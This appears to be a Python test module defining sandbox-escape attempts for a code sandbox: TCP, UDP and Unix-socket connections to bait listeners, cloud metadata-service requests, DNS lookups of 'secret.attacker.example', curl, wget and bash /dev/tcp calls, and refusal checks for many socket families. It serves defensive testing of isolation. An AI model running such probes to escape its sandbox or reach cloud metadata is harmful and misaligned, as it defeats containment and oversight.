"""Reaching anything. The harness listens on the host; a connection or a datagram is an escape."""

from __future__ import annotations

from tests.sandbox.attacks.record import Attack

_REACHED = "a listener on the host was reached"


def _socket(name: str, body: str, *, bare: bool = False, escape: str = _REACHED) -> Attack:
    return Attack(name=name, escape=escape, program=f"import socket\n{body}", bare=bare)


def _family(name: str, number: int, kind: int = 3, protocol: int = 0) -> Attack:
    """A kind of socket that reaches the kernel or other machines: there must be none to have."""
    return Attack(
        name=f"{name} socket",
        escape="the socket could be made",
        program=f"refuse('socket', {number}, {kind}, {protocol})",
    )


ATTACKS = (
    _socket(
        "TCP",
        """
for host in ("127.0.0.1", "localhost", "0.0.0.0", bait["address"]):
    if attempt(socket.create_connection, (host, bait["tcp"]), timeout=0.3):
        escaped(host)
""",
        bare=True,
    ),
    _socket(
        "TCP over IPv6",
        "attempt(socket.create_connection, ('::1', bait['tcp6']), timeout=0.3)",
        bare=True,
    ),
    _socket(
        "TCP without waiting",
        """
def knock():
    it = socket.socket()
    it.setblocking(False)
    it.connect_ex(("127.0.0.1", bait["tcp"]))
    it.send(b"x")
attempt(knock)
""",
        bare=True,
    ),
    _socket(
        "UDP",
        """
attempt(lambda: socket.socket(type=socket.SOCK_DGRAM).sendto(b"x", ("127.0.0.1", bait["udp"])))
""",
        bare=True,
    ),
    _socket(
        "UDP broadcast",
        """
def shout():
    it = socket.socket(type=socket.SOCK_DGRAM)
    it.setsockopt(socket.SOL_SOCKET, socket.SO_BROADCAST, 1)
    it.sendto(b"x", ("255.255.255.255", bait["udp"]))
    escaped("sent")
attempt(shout)
""",
    ),
    _socket(
        "path socket",
        "attempt(lambda: socket.socket(socket.AF_UNIX).connect(bait['path_socket']))",
        bare=True,
    ),
    _socket(
        "path socket through /proc",
        """
for pid in (1, "self", bait["host_pid"]):
    path = f"/proc/{pid}/root{bait['path_socket']}"
    attempt(lambda: socket.socket(socket.AF_UNIX).connect(path[:107]))
""",
    ),
    _socket(
        "abstract socket",
        "attempt(lambda: socket.socket(socket.AF_UNIX).connect(bait['abstract']))",
        bare=True,
    ),
    _socket(
        "abstract datagram",
        """
attempt(lambda: socket.socket(socket.AF_UNIX, socket.SOCK_DGRAM).sendto(b"x", bait["datagram"]))
""",
        bare=True,
    ),
    _socket(
        "datagram from a socket pair",
        """
def pair():
    one, two = socket.socketpair(type=socket.SOCK_DGRAM)
    one.sendto(b"x", bait["datagram"])
attempt(pair)
def stream():
    one, two = socket.socketpair()
    one.sendto(b"x", bait["abstract"])
    escaped("addressed")
attempt(stream)
""",
        bare=True,
    ),
    _socket(
        "connect an end of a socket pair",
        """
one, two = socket.socketpair()
for step in (lambda: one.connect(bait["abstract"]), lambda: one.bind("here"),
             lambda: two.listen(), lambda: two.accept()):
    if attempt(step):
        escaped("socket pair")
""",
    ),
    _socket(
        "pass a descriptor",
        """
one, two = socket.socketpair()
if attempt(socket.send_fds, one, [b"x"], [0]):
    escaped("descriptors can be passed, which holds memory that no limit counts")
""",
        escape="a descriptor in flight",
        bare=True,
    ),
    _socket(
        "out-of-band data on a socket pair",
        """
one, two = socket.socketpair()
if attempt(one.send, b"x", socket.MSG_OOB):
    escaped("MSG_OOB")
""",
        escape="the kernel's handling of it, which had exploitable bugs, is in reach",
    ),
    _socket(
        "metadata service",
        """
import urllib.request
for url in ("http://169.254.169.254/latest/meta-data/", "http://metadata.google.internal/",
            "http://100.100.100.200/", "http://[fd00:ec2::254]/"):
    if attempt(urllib.request.urlopen, url, timeout=0.3):
        escaped(url)
""",
        escape="an answer",
    ),
    _socket(
        "names",
        """
for name in ("example.com", "metadata.google.internal", "secret.attacker.example"):
    if attempt(socket.getaddrinfo, name, 80):
        escaped(name)
for server in ("127.0.0.53", "8.8.8.8"):
    if attempt(lambda: socket.socket(type=socket.SOCK_DGRAM).sendto(bytes(12), (server, 53))):
        escaped(server)
""",
        escape="a name is resolved, or a query sent",
    ),
    _socket(
        "listen",
        """
for address in (("0.0.0.0", 0), ("127.0.0.1", 0), ("::", 0)):
    if attempt(socket.create_server, address):
        escaped("listening")
""",
        escape="a port is open",
        bare=True,
    ),
    _socket(
        "asyncio client and server",
        """
import asyncio
async def go():
    for coroutine in (asyncio.open_connection("127.0.0.1", bait["tcp"]),
                      asyncio.open_unix_connection(bait["path_socket"]),
                      asyncio.start_server(print, "127.0.0.1", 0)):
        try:
            got = await asyncio.wait_for(coroutine, 0.3)
            if isinstance(got, tuple) or got.sockets:
                escaped("asyncio")
        except (OSError, asyncio.TimeoutError):
            pass
asyncio.run(go())
""",
        bare=True,
    ),
    _socket(
        "other programs",
        """
import shutil, subprocess
url = f"http://127.0.0.1:{bait['tcp']}/"
for command in (["curl", "-m1", url], ["wget", "-T1", "-t1", "-O-", url],
                ["bash", "-c", f"exec 3<>/dev/tcp/127.0.0.1/{bait['tcp']}"]):
    attempt(subprocess.run, command, capture_output=True, timeout=1)
""",
        bare=True,
    ),
    _socket(
        "inherited sockets",
        """
for fd in range(1 << 10):
    attempt(lambda: socket.socket(fileno=os.dup(fd)).sendall(b"x" * 100) if fd > 2 else None)
    it = attempt(socket.fromfd, fd, socket.AF_UNIX, socket.SOCK_STREAM)
    if it and attempt(it.getsockopt, socket.SOL_SOCKET, socket.SO_TYPE) is not None:
        escaped(f"descriptor {fd} is a socket")
""",
        escape="a standard descriptor is a socket, or another is open",
    ),
    _family("stream", 1, 1),
    _family("internet", 2, 1),
    _family("internet 6", 10, 2),
    _family("raw ICMP", 2, 3, 1),
    _family("unprivileged ICMP", 2, 2, 1),
    _family("netlink route", 16, 3, 0),
    _family("netlink netfilter", 16, 3, 12),
    _family("netlink crypto", 16, 3, 21),
    _family("packet", 17, 3, 768),
    _family("kernel crypto (AF_ALG)", 38, 5),
    _family("virtual machine (AF_VSOCK)", 40, 1),
    _family("express data path (AF_XDP)", 44),
    _family("Bluetooth", 31, 3, 1),
    _family("CAN", 29, 3, 1),
    _family("TIPC", 30, 5),
    _family("RDS", 21, 5),
    _family("SMC", 43, 1),
    _family("MPTCP", 2, 1, 262),
    _family("key management (AF_KEY)", 15, 3, 2),
    Attack(
        name="socket calls one by one",
        escape="one of them is allowed",
        program="""
for name in ("connect", "bind", "listen", "accept", "accept4", "sendmsg", "sendmmsg", "recvmsg",
             "setsockopt"):
    refuse(name, 0, 0, 0, 0, 0)
""",
    ),
)
